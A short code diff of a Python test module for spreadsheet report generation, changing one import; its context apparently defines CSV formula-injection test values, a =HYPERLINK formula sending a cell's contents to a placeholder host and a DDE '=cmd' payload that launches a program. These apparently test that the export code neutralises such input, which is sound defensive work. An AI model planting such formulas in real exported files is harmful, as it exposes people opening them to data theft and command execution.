@@ -24,7 +24,7 @@ from app.platform.models import PlatformAuditEvent
 from app.reports.activity import region_facts
 from app.reports.cells import SafeCsvWriter, safe_value
 from app.reports.workbook import national_workbook, region_workbook
-from tests.unit.test_report_content import FEBRUARY, in_known_region, known  # noqa: F401 (fixtures)
+from tests.helpers.reports import FEBRUARY
 
 HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")'
 CMD = "=cmd|' /C calc'!A0"
